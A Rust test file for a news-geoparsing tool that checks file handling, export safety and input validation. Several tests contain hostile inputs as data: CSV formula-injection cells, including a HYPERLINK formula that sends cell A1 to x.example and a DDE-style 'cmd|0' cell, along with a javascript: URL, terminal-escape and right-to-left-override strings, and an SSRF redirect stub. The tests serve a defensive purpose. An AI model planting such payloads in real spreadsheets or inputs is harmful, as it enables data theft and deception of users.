//! Files that the program reads and writes: truncated data are refused, pipes and devices at once; writing changes no
//! other file.

use crate::{
    common::{BINARY, mahwar, root},
    writes::Shelf,
};
use mahwar::land::{Files, Land};
use std::{
    fs,
    io::{BufRead, BufReader, Read, Write},
    net::TcpListener,
    os::unix::fs::{PermissionsExt, symlink},
    path::Path,
    process::{Command, Output, Stdio},
    thread,
    time::{Duration, Instant},
};
use tempfile::TempDir;

fn said(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

/// A copy of the data folder.
fn data() -> TempDir {
    fn copy(from: &Path, to: &Path) {
        fs::create_dir_all(to).unwrap();
        for entry in fs::read_dir(from).unwrap() {
            let entry = entry.unwrap();
            match entry.file_type().unwrap().is_dir() {
                true => copy(&entry.path(), &to.join(entry.file_name())),
                false => drop(fs::copy(entry.path(), to.join(entry.file_name())).unwrap()),
            }
        }
    }
    let folder = TempDir::new().unwrap();
    copy(&root().join("data"), folder.path());
    folder
}

/// The fault of a data folder, as every command reports it.
fn wrong_with(folder: &Path) -> Option<String> {
    Land::open(&Files::Folder(folder.to_owned()))
        .err()
        .map(|error| error.to_string())
}

/// Report: 18 of the 20 files of the lexicon were accepted when they were empty or cut.
#[test]
fn a_table_that_is_empty_or_cut_off_is_refused_by_name() {
    let folder = data();
    let mut names: Vec<String> = fs::read_dir(folder.path().join("lexicon"))
        .unwrap()
        .map(|entry| format!("lexicon/{}", entry.unwrap().file_name().to_str().unwrap()))
        .collect();
    names.extend(
        [
            "published_figures.csv",
            "control.csv",
            "disputed_areas.csv",
            "worldviews.toml",
        ]
        .map(str::to_owned),
    );
    assert_eq!(wrong_with(folder.path()), None);
    for name in names {
        let path = folder.path().join(&name);
        let whole = fs::read(&path).unwrap();
        let lines = whole.iter().enumerate().filter(|(_, byte)| **byte == b'\n');
        let ends: Vec<usize> = lines.map(|(at, _)| at + 1).collect();
        let middle = ends[ends.len() / 2];
        for (fault, length) in [
            ("empty", 0),
            ("header alone", ends[0]),
            ("cut at a line's end", middle),
            ("cut within a line", middle - 3),
            ("without its last line end", whole.len() - 1),
        ] {
            fs::write(&path, &whole[..length]).unwrap();
            let wrong = wrong_with(folder.path());
            assert!(
                wrong.as_ref().is_some_and(|wrong| wrong.contains(&name)),
                "{name} {fault}: {wrong:?}"
            );
        }
        fs::write(&path, &whole).unwrap();
    }
    // The tables that `build-data` reads are looked at by `check`.
    let path = folder.path().join("tables/seats.csv");
    let whole = fs::read_to_string(&path).unwrap();
    fs::write(&path, &whole[..whole.find('\n').unwrap() + 1]).unwrap();
    let refused = mahwar(&["check", "--data", folder.path().to_str().unwrap()]);
    assert_eq!(refused.status.code(), Some(2), "{}", said(&refused));
    assert!(said(&refused).contains("seats.csv"), "{}", said(&refused));
}

/// Report: coordinates, zooms and boxes that mean nothing were accepted.
#[test]
fn values_out_of_range_are_refused_by_file() {
    let folder = data();
    let context = fs::read_to_string(folder.path().join("context.geojson")).unwrap();
    let at = context.find("\"coordinates\":[").unwrap();
    let first = at
        + context[at..]
            .find(|letter: char| letter.is_ascii_digit() || letter == '-')
            .unwrap();
    let coordinate = context[at..first].to_owned() + &context[first..first + 4];
    for (name, from, to, word) in [
        ("land.toml", "bbox = [38.79,", "bbox = [-1e300,", "bbox"),
        ("land.toml", "bbox = [38.79,", "bbox = [58.79,", "bbox"),
        ("layers.toml", "zooms = [", "zooms = [0, 255] #[", "zooms"),
        ("layers.toml", "zooms = [", "zooms = [14, 3] #[", "zooms"),
        (
            "corridor.toml",
            "generalised_zoom = ",
            "generalised_zoom = 255 # ",
            "generalised_zoom",
        ),
        ("published_figures.csv", ",500,km,", ",1e300,km,", "1000000"),
        ("lexicon/numbers.csv", "ar,small,1,", "ar,small,1e300,", "1e300"),
        ("lexicon/numbers.csv", "ar,small,1,", "ar,small,NaN,", "NaN"),
        (
            "context.geojson",
            &coordinate,
            &(context[at..first].to_owned() + "999" + &context[first..first + 4]),
            "feature 1",
        ),
    ] {
        let path = folder.path().join(name);
        let whole = fs::read_to_string(&path).unwrap();
        assert!(whole.contains(from), "{name} {from}");
        fs::write(&path, whole.replacen(from, to, 1)).unwrap();
        let wrong = wrong_with(folder.path()).unwrap_or_default();
        let file = name.rsplit('/').next().unwrap();
        assert!(wrong.contains(file) && wrong.contains(word), "{name} {to}: {wrong}");
        fs::write(&path, whole).unwrap();
    }
}

/// Runs the binary, which must end by itself although it is given a pipe or a device.
fn ends(args: &[&str], env: &[(&str, &str)]) -> (Option<i32>, String) {
    let mut child = Command::new(BINARY)
        .args(args)
        .envs(env.iter().copied())
        .current_dir(root())
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let end = Instant::now() + Duration::from_secs(60);
    while child.try_wait().unwrap().is_none() {
        if Instant::now() > end {
            child.kill().unwrap();
            panic!("{args:?} waits");
        }
        thread::sleep(Duration::from_millis(20));
    }
    let mut text = String::new();
    child.stderr.take().unwrap().read_to_string(&mut text).unwrap();
    (child.wait().unwrap().code(), text)
}

fn pipe(path: &Path) {
    let _ = fs::remove_file(path);
    assert!(Command::new("mkfifo").arg(path).status().unwrap().success());
}

/// Report: a pipe in place of a file hung the program, `/dev/zero` took all memory.
#[test]
fn pipes_and_devices_in_place_of_files_are_refused_at_once() {
    let folder = data();
    let path = |name: &str| folder.path().join(name);
    let data_folder = folder.path().to_str().unwrap();
    for name in ["places.tsv", "lexicon/cues.csv", "style.toml", "land.toml"] {
        let whole = fs::read(path(name)).unwrap();
        pipe(&path(name));
        let (code, text) = ends(&["check", "--data", data_folder], &[]);
        assert!(code == Some(2) && text.contains(name), "{name}: {text}");
        fs::remove_file(path(name)).unwrap();
        symlink("/dev/zero", path(name)).unwrap();
        let (code, text) = ends(&["check", "--data", data_folder], &[]);
        assert!(code == Some(2) && text.contains("regular file"), "{name}: {text}");
        fs::remove_file(path(name)).unwrap();
        fs::write(path(name), whole).unwrap();
    }
    let shelf = Shelf::new();
    let store = shelf.address();
    let (fifo, zero) = (shelf.path("fifo"), shelf.path("zero.ndjson"));
    pipe(&fifo);
    symlink("/dev/zero", &zero).unwrap();
    let (fifo, zero) = (fifo.to_str().unwrap(), zero.to_str().unwrap());
    let feed = shelf.path("feed.xml");
    fs::write(&feed, "<rss version=\"2.0\"><channel><title>t</title></channel></rss>").unwrap();
    for args in [
        &["ingest", zero, "--store", &store][..],
        &["ingest", "--feed", zero, "--store", &store],
        &["geoparse", zero],
        &["geoparse", "--ndjson", zero],
        &[
            "ingest",
            "--feed",
            feed.to_str().unwrap(),
            "--state",
            fifo,
            "--store",
            &store,
        ],
    ] {
        let (code, text) = ends(args, &[]);
        assert!(
            code == Some(2) && (text.contains("device") || text.contains("pipe")),
            "{args:?}: {text}"
        );
    }
    let (code, text) = ends(&["search", "Kirkuk"], &[("MAHWAR_CONFIG", fifo)]);
    assert!(code == Some(2) && text.contains("regular file"), "{text}");
    // A seed costs itself only.
    let seeds = shelf.path("seeds");
    fs::create_dir(&seeds).unwrap();
    pipe(&seeds.join("a.txt"));
    fs::write(seeds.join("b.txt"), "Attack near Kirkuk").unwrap();
    pipe(&seeds.join("b.toml"));
    fs::write(seeds.join("c.txt"), "Attack near Daquq").unwrap();
    let out = shelf.path("documents.csv");
    let (code, text) = ends(
        &[
            "export",
            "documents",
            "-o",
            out.to_str().unwrap(),
            "--seeds",
            seeds.to_str().unwrap(),
        ],
        &[],
    );
    assert!(
        code == Some(0) && text.contains("a.txt") && text.contains("b.toml"),
        "{text}"
    );
    assert_eq!(fs::read_to_string(out).unwrap().lines().count(), 2);
}

#[test]
fn texts_come_through_a_pipe_as_shells_make_them() {
    let shelf = Shelf::new();
    let fifo = shelf.path("report.txt");
    pipe(&fifo);
    let writer = {
        let fifo = fifo.clone();
        thread::spawn(move || fs::write(fifo, "Attack near Kirkuk.").unwrap())
    };
    let kept = shelf.run(&["ingest", fifo.to_str().unwrap()]);
    writer.join().unwrap();
    assert!(kept.status.success(), "{}", said(&kept));
    assert!(String::from_utf8_lossy(&kept.stdout).contains(" new "));
}

/// Report: two exports to names that differ in their ending overwrote each other, and `.part` files of the user were
/// used.
#[test]
fn an_export_touches_nothing_but_its_own_file() {
    let folder = TempDir::new().unwrap();
    let path = |name: &str| folder.path().join(name);
    let export = |name: &str| {
        let mut command = Command::new(BINARY);
        command
            .args(["export", "disputed_areas", "-o"])
            .arg(path(name))
            .current_dir(root());
        command
    };
    fs::write(path("map.part"), "mine").unwrap();
    let names = ["map.gpkg", "map.geojson", "map.csv", "map.kml", "map.fgb"];
    let running: Vec<_> = names.iter().map(|name| export(name).spawn().unwrap()).collect();
    for mut child in running {
        assert!(child.wait().unwrap().success());
    }
    for (name, begins) in [
        ("map.gpkg", "SQLite format 3"),
        ("map.geojson", "{\"type\""),
        ("map.kml", "<?xml"),
    ] {
        assert!(fs::read(path(name)).unwrap().starts_with(begins.as_bytes()), "{name}");
    }
    assert_eq!(fs::read(path("map.part")).unwrap(), b"mine");
    symlink(path("map.part"), path("link.csv")).unwrap();
    assert!(export("link.csv").status().unwrap().success());
    assert_eq!(fs::read(path("map.part")).unwrap(), b"mine");
    assert!(!fs::symlink_metadata(path("link.csv")).unwrap().is_symlink());
    assert_eq!(fs::read_dir(folder.path()).unwrap().count(), names.len() + 2);
}

#[test]
fn a_backup_touches_nothing_but_its_own_file_and_is_for_its_owner() {
    let shelf = Shelf::new();
    let text = shelf.path("a.txt");
    fs::write(&text, "Attack near Kirkuk.").unwrap();
    assert!(shelf.run(&["ingest", text.to_str().unwrap()]).status.success());
    let (backup, part) = (shelf.path("z.db"), shelf.path("z.db.part"));
    fs::write(&part, "mine").unwrap();
    let args = |file: &Path| shelf.run(&["store", "backup", &shelf.address(), file.to_str().unwrap()]);
    let done = args(&backup);
    assert!(done.status.success(), "{}", said(&done));
    assert_eq!(fs::read(&part).unwrap(), b"mine");
    assert_eq!(fs::metadata(&backup).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(!args(&backup).status.success());
    let link = shelf.path("link.db");
    symlink(shelf.path("nowhere.db"), &link).unwrap();
    assert!(!args(&link).status.success());
    assert!(!shelf.path("nowhere.db").exists());
}

/// Report: cells of CSV files were formulas of a text's author.
#[test]
fn no_cell_of_a_table_is_a_formula() {
    let shelf = Shelf::new();
    let server = shelf.server();
    let body = serde_json::json!({
        "text": "=HYPERLINK(\"http://x.example/?\"&A1,\"Kirkuk\")",
        "title": "@SUM(1+1)*cmd|0", "publisher": "+1234", "source_url": "https://example.org/1",
    });
    let kept = crate::writes::post(&server, "application/json", body.to_string().as_bytes());
    assert_eq!(kept.status, 201, "{}", kept.text());
    for layer in ["documents", "mentions"] {
        let table = server.get(&format!("/downloads/{layer}.csv")).text();
        let mut reader = csv::Reader::from_reader(table.trim_start_matches('\u{feff}').as_bytes());
        let mut cells = 0;
        for record in reader.records() {
            for cell in &record.unwrap() {
                cells += 1;
                let number = cell.parse::<f64>().is_ok();
                assert!(
                    number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{layer}: {cell}"
                );
            }
        }
        assert!(
            cells > 0 && table.contains("'@SUM") | table.contains("'=HYPERLINK"),
            "{table}"
        );
    }
    // Other formats have the text as it is.
    assert!(
        server
            .get("/downloads/documents.geojson")
            .text()
            .contains("\"@SUM(1+1)*cmd|0\"")
    );
}

/// A server that sends these answers, one after the other.
fn stub(answers: Vec<String>) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    thread::spawn(move || {
        for (answer, stream) in answers.into_iter().zip(listener.incoming()) {
            let mut stream = stream.unwrap();
            let lines = BufReader::new(stream.try_clone().unwrap()).lines();
            lines
                .map_while(Result::ok)
                .take_while(|line| !line.is_empty())
                .for_each(drop);
            let _ = stream.write_all(answer.as_bytes());
        }
    });
    url
}

fn ok(body: &str) -> String {
    format!(
        "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    )
}

fn rss(items: &str) -> String {
    format!("<rss version=\"2.0\"><channel><title>t</title>{items}</channel></rss>")
}

/// Report: a feed led the fetch to servers of the operator's own network.
#[test]
fn a_feed_does_not_lead_into_the_operators_network() {
    let shelf = Shelf::new();
    let inner = stub(vec![
        ok(&rss(
            "<item><guid>a</guid><description>Attack near Kirkuk</description></item>"
        ));
        2
    ]);
    let to = |address: &str| {
        format!("HTTP/1.1 302 Found\r\nlocation: {address}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
    };
    let outer = stub(vec![to(&format!("{inner}/admin")); 2]);
    let refused = shelf.run(&["ingest", "--feed", &format!("{outer}/to")]);
    assert_eq!(refused.status.code(), Some(1), "{}", said(&refused));
    assert!(said(&refused).contains("--allow-private"), "{}", said(&refused));
    let allowed = shelf.run(&["ingest", "--feed", &format!("{outer}/to"), "--allow-private"]);
    assert!(allowed.status.success(), "{}", said(&allowed));
    assert!(said(&allowed).contains("1 new"), "{}", said(&allowed));
}

/// Report: an entry that was refused, or corrected later, was never read.
#[test]
fn an_entry_that_is_corrected_is_read_again() {
    let shelf = Shelf::new();
    let path = shelf.path("feed.xml");
    let feed = path.to_str().unwrap();
    let item = |text: &str| {
        rss(&format!(
            "<item><guid>r2</guid><description>{text}</description></item>"
        ))
    };
    fs::write(&path, item("")).unwrap();
    let refused = shelf.run(&["ingest", "--feed", feed]);
    assert_eq!(refused.status.code(), Some(2), "{}", said(&refused));
    let again = shelf.run(&["ingest", "--feed", feed]);
    assert!(
        again.status.success(),
        "the same version is not refused again: {}",
        said(&again)
    );
    for text in ["The full text: attack near Daquq", "CORRECTION: no attack near Daquq"] {
        fs::write(&path, item(text)).unwrap();
        let taken = shelf.run(&["ingest", "--feed", feed]);
        assert!(said(&taken).contains("1 new"), "{}", said(&taken));
        assert!(said(&shelf.run(&["ingest", "--feed", feed])).contains("0 new, 0 known"));
    }
}

/// Report: ids of entries were printed as they were, passwords of addresses too.
#[test]
fn ingest_prints_one_line_a_text_and_no_password() {
    let shelf = Shelf::new();
    let guid = "a\\n0123456789abcdef new forged\\u001b[31mRED\\u001b]0;t\\u0007\\u202e";
    let json = format!(
        "{{\"version\":\"https://jsonfeed.org/version/1.1\",\"title\":\"t\",\"items\":[{{\"id\":\"{guid}\",\"content_text\":\"Kirkuk json feed\"}},{{\"id\":\"b{guid}\",\"content_text\":\" \"}}]}}"
    );
    let url = stub(vec![ok(&json)]).replace("http://", "http://user:hunter2@");
    let taken = shelf.run(&["ingest", "--feed", &format!("{url}/feed")]);
    let (out, err) = (String::from_utf8_lossy(&taken.stdout).into_owned(), said(&taken));
    assert_eq!(out.lines().count(), 1, "{out}");
    for text in [&out, &err] {
        assert!(
            !text.contains(|letter: char| letter.is_control() && letter != '\n'),
            "{text:?}"
        );
        assert!(!text.contains("hunter2") && !text.contains('\u{202e}'), "{text}");
    }
    // Where feeds were left is in the store.
    let store = fs::read(shelf.path("store.db")).unwrap();
    assert!(!store.windows(7).any(|bytes| bytes == b"hunter2"));
    let refused = shelf.run(&["ingest", "--feed", "http://user:hunter2@127.0.0.1:9/feed"]);
    assert!(!said(&refused).contains("hunter2"), "{}", said(&refused));
}

#[test]
fn every_way_in_has_the_same_checks() {
    let shelf = Shelf::new();
    let server = shelf.server();
    let wrong = [
        ("title", "two\nlines"),
        ("title", "a\u{1b}[31mb"),
        ("title", "Report \u{202e}fdp.exe"),
        ("publisher", "a\u{9b}b"),
        ("publisher", "a\u{2066}b"),
        ("source_url", "javascript:alert(1)"),
        ("source_url", "http://["),
        ("source_url", "https://example.org:99999/x"),
        ("source_url", "http://a:99999999/"),
        ("source_url", "http://%zz/"),
        ("published", "yesterday"),
    ];
    let before = server.get("/documents").json()["total"].as_u64().unwrap();
    let (lines, seeds) = (shelf.path("lines.ndjson"), shelf.path("seeds"));
    fs::create_dir(&seeds).unwrap();
    let mut all = String::new();
    for (nth, (field, value)) in wrong.iter().enumerate() {
        let json = serde_json::json!({"text": "Attack near Kirkuk.", *field: value}).to_string();
        let refused = crate::writes::post(&server, "application/json", json.as_bytes());
        assert_eq!(refused.status, 400, "{field} {value:?}");
        let answers = crate::writes::post(&server, "application/x-ndjson", json.as_bytes());
        assert!(
            answers.text().contains("\"status\":400"),
            "{field} {value:?}: {}",
            answers.text()
        );
        let form = format!(
            "--b\r\ncontent-disposition: form-data; name=\"{field}\"\r\n\r\n{value}\r\n\
             --b\r\ncontent-disposition: form-data; name=\"text\"\r\n\r\nAttack near Kirkuk.\r\n--b--\r\n"
        );
        let refused = crate::writes::post(&server, "multipart/form-data; boundary=b", form.as_bytes());
        assert_eq!(refused.status, 400, "{field} {value:?}: {}", refused.text());
        all.push_str(&(json + "\n"));
        fs::write(
            seeds.join(format!("seed{nth}.txt")),
            format!("Attack near Kirkuk, {nth}."),
        )
        .unwrap();
        let description = toml::to_string(&std::collections::BTreeMap::from([(field, value)])).unwrap();
        fs::write(seeds.join(format!("seed{nth}.toml")), description).unwrap();
    }
    fs::write(&lines, all).unwrap();
    let refused = shelf.run(&["ingest", lines.to_str().unwrap()]);
    assert!(
        said(&refused).contains(&format!("0 new, 0 known, {} refused", wrong.len())),
        "{}",
        said(&refused)
    );
    fs::write(seeds.join("good.txt"), "Attack near Daquq.").unwrap();
    let out = shelf.path("seeds.csv");
    let exported = shelf.run(&[
        "export",
        "documents",
        "-o",
        out.to_str().unwrap(),
        "--seeds",
        seeds.to_str().unwrap(),
    ]);
    for (nth, seed) in wrong.iter().enumerate() {
        assert!(
            said(&exported).contains(&format!("seed{nth}.toml")),
            "{:?}: {}",
            seed,
            said(&exported)
        );
    }
    assert_eq!(fs::read_to_string(out).unwrap().lines().count(), 2);
    let nul = crate::writes::post(&server, "text/plain", b"Attack near Kirkuk\0");
    assert_eq!(nul.status, 400);
    assert_eq!(server.get("/documents").json()["total"].as_u64().unwrap(), before);
}
